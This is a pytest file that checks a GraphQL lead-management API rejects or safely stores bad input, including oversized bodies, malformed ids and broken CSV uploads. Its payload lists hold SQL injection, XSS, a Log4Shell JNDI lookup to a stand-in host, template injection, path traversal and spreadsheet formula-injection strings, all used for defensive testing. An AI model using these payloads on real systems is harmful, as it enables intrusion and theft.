"""Bad input, aimed: oversized bodies, batches, deep, wide and aliased
queries, malformed ids, wrong types, unstorable and hostile text, broken CSV
files. Each ends in a clear error (never a 5xx, never "Unexpected error.")
and changes nothing."""

import pytest
from strawberry import relay

from leadwire.core.models.leads import Lead
from leadwire.core.models.workspace import ImportChunk, LeadImport, LostReason

from factories import PASSWORD, make_account


def gid(type_name: str, node_id) -> str:
    return str(relay.GlobalID(type_name, str(node_id)))


@pytest.fixture
async def owner(client_factory):
    _, viewer = await make_account()
    c = await client_factory()
    await c.sign_in(viewer.email, PASSWORD)
    c.viewer = viewer
    return c


async def post(c, query: str, variables: dict | None = None) -> dict:
    """As GraphQLClient.post, with the JSON escaped to ASCII (a lone surrogate
    can be sent as \\ud800 but not encoded as UTF-8)."""
    import json

    r = await c.http.post("/graphql", content=json.dumps({"query": query, "variables": variables or {}}),
                          headers={"content-type": "application/json", "x-csrf-token": c.csrf})
    assert r.status_code == 200, r.text
    return r.json()


def _no_unexpected(body: dict) -> None:
    assert all(e.get("message") != "Unexpected error." for e in body.get("errors") or []), body


CREATE_REASON = "mutation($i: CreateLostReasonInput!) { createLostReason(input: $i) { userErrors { field code message } lostReason { name } } }"


async def test_oversized_bodies_are_refused_before_they_are_read(owner):
    big = {"query": CREATE_REASON, "variables": {"i": {"name": "x" * (1024 * 1024)}}}
    r = await owner.http.post("/graphql", json=big, headers={"x-csrf-token": owner.csrf})
    assert r.status_code == 413 and r.json()["errors"][0]["extensions"]["code"] == "PAYLOAD_TOO_LARGE"

    async def chunked():  # no Content-Length: counted as it arrives
        for _ in range(40):
            yield b"x" * 32768

    r = await owner.http.post("/graphql", content=chunked(), headers={"x-csrf-token": owner.csrf,
                                                                      "content-type": "application/json"})
    assert r.status_code == 413
    r = await owner.http.post("/intake/forms/TGVhZFNvdXJjZTox", content=b"a=" + b"x" * (2 * 1024 * 1024),
                              headers={"content-type": "application/x-www-form-urlencoded"})
    assert r.status_code == 413
    # Just under the limit is an ordinary answer (here: the name is too long).
    body = await owner.post(CREATE_REASON, {"i": {"name": "x" * (900 * 1024)}})
    assert body["data"]["createLostReason"]["userErrors"][0]["field"] == "name"
    assert not await LostReason.filter(name__startswith="xxx").exists()


async def test_batches_are_refused(owner):
    before = await LostReason.all().count()
    r = await owner.http.post("/graphql", json=[
        {"query": CREATE_REASON, "variables": {"i": {"name": "Batch one"}}},
        {"query": CREATE_REASON, "variables": {"i": {"name": "Batch two"}}},
    ], headers={"x-csrf-token": owner.csrf})
    assert r.status_code == 400 and "Batching is not enabled" in r.text
    assert await LostReason.all().count() == before


async def test_deep_wide_and_aliased_queries_are_refused_with_the_limit_named(owner):
    deep = "{ viewer { user { " + "leads(first: 1) { edges { node { assignee { " * 5 + "id" + " } } } }" * 5 + " } } }"
    assert "maximum operation depth" in (await owner.post(deep))["errors"][0]["message"]
    aliased = "{ " + " ".join(f"a{i}: leads(first: 1) {{ totalCount }}" for i in range(40)) + " }"
    assert "aliases" in (await owner.post(aliased))["errors"][0]["message"]
    # Wide: 30 aliases of a full page of leads with their assignee, each within limits, too costly together.
    wide = "{ " + " ".join(f"a{i}: leads(first: 100) {{ edges {{ node {{ id assignee {{ name }} }} }} }}" for i in range(30)) + " }"
    error = (await owner.post(wide))["errors"][0]
    assert error["extensions"]["code"] == "QUERY_TOO_COSTLY" and error["extensions"]["cost"] == 30 * (1 + 100 * 3)
    many = await owner.post("query($ids: [ID!]!) { nodes(ids: $ids) { id } }", {"ids": ["x"] * 101})
    assert "At most 100 ids" in many["errors"][0]["message"]


MALFORMED_IDS = [
    "", "!!!", "bm9wZQ==", "TGVhZDo=", gid("Lead", "abc"), gid("Lead", 10**30), gid("Lead", 2**63), gid("Lead", -1),
    gid("Lead", 0), gid("Lead", "1e3"), gid("Lead", " 1"), gid("Lead", "١٢٣"), gid("Nothing", 1), "x" * 5000,
    gid("Lead", "1;DROP TABLE lead"),
]


@pytest.mark.parametrize("raw", MALFORMED_IDS)
async def test_malformed_ids_read_as_absent(owner, raw):
    from factories import make_lead

    await make_lead(owner.viewer.account_id, first_name="Kept")
    body = await owner.post("query($id: ID!) { node(id: $id) { id } }", {"id": raw})
    assert body == {"data": {"node": None}, "extensions": body["extensions"]}
    body = await owner.post("mutation($i: LeadIdInput!) { markLeadWon(input: $i) { userErrors { field code message } } }",
                            {"i": {"leadId": raw}})
    _no_unexpected(body)
    if body["data"] is None:  # not even a global id: refused by the ID type itself
        assert "$i" in body["errors"][0]["message"] or "GlobalID" in body["errors"][0]["message"], body
    else:
        assert body["data"]["markLeadWon"]["userErrors"] == [
            {"field": "leadId", "code": "NOT_FOUND", "message": "No lead with this id."}
        ]
    assert not await Lead.filter(outcome="won").exists()


@pytest.mark.parametrize("variables", [
    {"i": {"name": 12}}, {"i": {"name": None}}, {"i": {"name": ["a"]}}, {"i": {"name": {"a": 1}}}, {"i": "name"},
    {"i": {"name": "ok", "extra": 1}}, {},
])
async def test_wrong_types_are_refused_by_validation(owner, variables):
    body = await owner.post(CREATE_REASON, variables)
    _no_unexpected(body)
    assert body["data"] is None and "$i" in body["errors"][0]["message"]
    assert await LostReason.filter(name="ok").count() == 0


@pytest.mark.parametrize("value", [2**31, -(2**31) - 1, 1.5, "7", True])
async def test_out_of_range_numbers_are_refused(owner, value):
    body = await owner.post("{ leads(first: $n) { totalCount } }".replace("{ leads", "query($n: Int) { leads"),
                            {"n": value})
    _no_unexpected(body)
    assert body["data"] is None and body["errors"]


UNSTORABLE = ["nul \x00 inside", "\ud800 lone surrogate", "\udfff"]
TEXT_MUTATIONS = [
    (CREATE_REASON, lambda v: {"i": {"name": v}}),
    ("mutation($i: UpdateProfileInput!) { updateProfile(input: $i) { userErrors { code } } }", lambda v: {"i": {"name": v}}),
    ("mutation($i: CreateLeadInput!) { createLead(input: $i) { userErrors { code } } }",
     lambda v: {"i": {"firstName": v, "lastName": "Doe", "phone": "313-555-0100"}}),
    ("mutation($i: CreateUserInput!) { createUser(input: $i) { userErrors { code } } }",
     lambda v: {"i": {"email": "new@example.com", "name": v}}),
    ("{ leads(search: $s) { totalCount } }".replace("{ leads", "query($s: String) { leads"), lambda v: {"s": v}),
]


@pytest.mark.parametrize("value", UNSTORABLE)
@pytest.mark.parametrize("query, variables", TEXT_MUTATIONS)
async def test_unstorable_text_is_refused_everywhere_and_nothing_changes(owner, query, variables, value):
    leads, reasons = await Lead.all().count(), await LostReason.all().count()
    body = await post(owner, query, variables(value))
    _no_unexpected(body)
    assert body["data"] is None
    error = body["errors"][0]
    assert error["extensions"]["code"] == "BAD_USER_INPUT" and "NUL" in error["message"] and "$variables" in error["message"]
    assert (await Lead.all().count(), await LostReason.all().count()) == (leads, reasons)


async def test_unstorable_text_in_a_literal_is_refused(owner):
    body = await owner.post('mutation { createLostReason(input: {name: "a\\u0000b"}) { userErrors { code } } }')
    assert body["errors"][0]["extensions"]["code"] == "BAD_USER_INPUT" and "a string in the query" in body["errors"][0]["message"]


HOSTILE = [
    "Robert'); DROP TABLE lead;--", "<script>alert(1)</script>", "=HYPERLINK(\"http://x.example\")", "%_\\'\"",
    "Zoë 李 😀 \u202e", "a" * 5 + "\u0301" * 20, "${jndi:ldap://x.example/a}", "{{7*7}}", "../../etc/passwd",
]


async def test_hostile_text_is_stored_and_returned_verbatim(owner):
    for value in HOSTILE:
        body = await owner.post(CREATE_REASON, {"i": {"name": value[:80]}})
        _no_unexpected(body)
        assert body["data"]["createLostReason"]["userErrors"] == [], (value, body)
        assert body["data"]["createLostReason"]["lostReason"]["name"] == value[:80]
        lead = await owner.post("mutation($i: CreateLeadInput!) { createLead(input: $i) { userErrors { code message } } }",
                                {"i": {"firstName": value[:40], "lastName": "Doe", "phone": "313-555-0100"}})
        _no_unexpected(lead)
    for needle in ("%", "_", "'", "\\", "*", "DROP TABLE"):
        body = await owner.post("query($s: String) { leads(search: $s) { totalCount edges { node { firstName } } } }",
                                {"s": needle})
        _no_unexpected(body)
        names = [e["node"]["firstName"] for e in body["data"]["leads"]["edges"]]
        assert all(needle.lower() in n.lower() for n in names), (needle, names)  # wildcards are literal


async def _upload(c, body: bytes, name="leads.csv"):
    return await c.http.post("/workspace/imports", files={"file": (name, body, "text/csv")},
                             headers={"x-csrf-token": c.csrf})


@pytest.mark.parametrize("body, problem", [
    (b"\x00\x01\x02\xff\xfe" * 200, "file"),  # binary
    ("Name,Phone\n".encode("utf-16"), "file"),  # UTF-16 (read as such): a header and no rows
    ("Name,Phone\nAnn,313\n".encode("utf-16-le"), "file"),  # UTF-16 without its BOM: NULs everywhere
    (b"Name,Phone\nA\x00nn,313-555-0100\n", "file"),  # a NUL inside a cell
    (b"", "file"),
])
async def test_broken_csv_files_are_refused_and_nothing_is_kept(owner, body, problem):
    r = await _upload(owner, body)
    assert r.status_code in (400, 422), r.text
    errors = r.json().get("userErrors") or [{"field": "file"}]
    assert errors[0]["field"] == problem
    assert await LeadImport.all().count() == 0 and await ImportChunk.all().count() == 0


async def test_csv_formula_cells_and_legacy_encodings_are_kept_as_inert_text(owner):
    rows = "Name,Phone,Notes\n=HYPERLINK(\"http://x.example\"),313-555-0100,+SUM(A1)\n@cmd,313-555-0101,-2+3\n"
    r = await _upload(owner, rows.encode("utf-8"))
    assert r.status_code == 201, r.text
    chunk = await ImportChunk.get(lead_import__account_id=owner.viewer.account_id)
    cells = [c for _, row in chunk.rows for c in row]
    assert '=HYPERLINK("http://x.example")' in cells and "+SUM(A1)" in cells and "@cmd" in cells and "-2+3" in cells
    # Invalid UTF-8 (a Windows-1252 export) is read as Windows-1252, not refused or garbled.
    r = await _upload(owner, "Name,Phone\nZoë Ça,313-555-0142\n".encode("cp1252"))
    assert r.status_code == 201
    chunk = await ImportChunk.filter(lead_import_id=await LeadImport.all().order_by("-id").first().values_list("id", flat=True)).first()
    assert chunk.rows[0][1][0] == "Zoë Ça"
